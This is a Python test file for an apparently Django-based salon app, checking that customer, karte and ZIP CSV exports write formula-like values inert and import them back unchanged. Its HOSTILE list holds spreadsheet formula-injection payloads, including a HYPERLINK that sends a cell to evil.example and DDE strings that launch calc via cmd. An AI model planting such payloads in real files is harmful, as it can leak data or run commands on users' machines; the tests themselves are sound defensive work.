"""Exports that are safe to open: a value a spreadsheet would run as a formula — planted by a
customer as their name on the counter sheet, or typed by staff in a memo, a menu or karte text — is
written inert in every CSV (UTF-8 and Shift_JIS, alone and inside the ZIP), and the import undoes
exactly that, so export → import still round-trips. Real files in a storage folder of the test's own."""

import csv
import datetime
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from django_scopes import scope

from common.spreadsheet import FORMULA_STARTS, cell_in, cell_out
from customers.models import Customer
from kartes.models import ItemKind
from kartes.services import ItemInput, karte_create
from transfer.models import ExportJob

from .test_counselling_sheet import _answers, _link, _ready_sheet
from .test_exports import CREATE, download, held_exports, round_trip  # noqa: F401 (a fixture)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize(
    "value",
    [*HOSTILE, "", "'plain", "''=x", "山田 花子", "090-1234-5678", "a=b", "'", "-"],
)
def test_a_cell_comes_back_exactly_as_it_was(value):
    written = cell_out(value)
    assert not written.startswith(FORMULA_STARTS)
    assert cell_in(written) == value


def _cells(data: bytes, encoding: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(encoding), newline="")) for cell in row]


def _plant(world):
    """A customer types a formula as their name at the counter; staff file the sheet as a new
    customer; staff write formulas into a memo, the address, a menu and karte text."""
    questions = _ready_sheet(world)
    _row, url = _link(world, single_use=False)
    assert Client().post(url, _answers(questions, name=HOSTILE[0], kana="アライ")).status_code == 302
    with scope(salon=world.salon):
        from counselling.models import SheetResponse

        sent = SheetResponse.objects.get()
    world.client().post(reverse("staff:sheet_file", kwargs={"pk": sent.pk}), {"new": "1"})
    with scope(salon=world.salon):
        planted = Customer.objects.get(name=HOSTILE[0])
        Customer.objects.filter(pk=planted.pk).update(memo=HOSTILE[1], address=HOSTILE[2])
        karte_create(
            salon=world.salon, actor=world.owner.user, customer=planted,
            treatment_date=datetime.date(2026, 11, 2), staff=world.stylist, menu=HOSTILE[3],
            items=[ItemInput(kind=ItemKind.TEXT, text=HOSTILE[4], is_public=True)],
        )  # fmt: skip


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_no_cell_of_any_export_starts_a_formula(salon_a, own_storage, held_exports, encoding):  # noqa: F811
    _plant(salon_a)
    client = salon_a.client()
    for kind in ("customers", "kartes", "archive"):
        client.post(CREATE, {"kind": kind, "encoding": encoding})
    held_exports()
    with salon_a.scope():
        customers, kartes, archive = (download(client, job) for job in ExportJob.objects.order_by("pk"))
    files = {"customers": customers, "kartes": kartes}
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        files.update({f"zip/{name}": opened.read(name) for name in ("customers.csv", "kartes.csv")})
    for name, data in files.items():
        cells = _cells(data, encoding)
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
    for value in (HOSTILE[0], HOSTILE[1], HOSTILE[2]):
        assert "'" + value in _cells(customers, encoding)
    assert "'" + HOSTILE[3] in _cells(kartes, encoding) and "'" + HOSTILE[4] in _cells(kartes, encoding)


def test_an_export_with_formulas_imports_back_unchanged(salon_a, salon_b, own_storage, held_exports):  # noqa: F811
    _plant(salon_a)
    fields = ("number", "name", "kana", "memo", "address")
    before, after = round_trip(salon_a, salon_b, held_exports, fields=fields, encoding="utf-8-sig")
    assert HOSTILE[0] in [row["name"] for row in before] and after == before
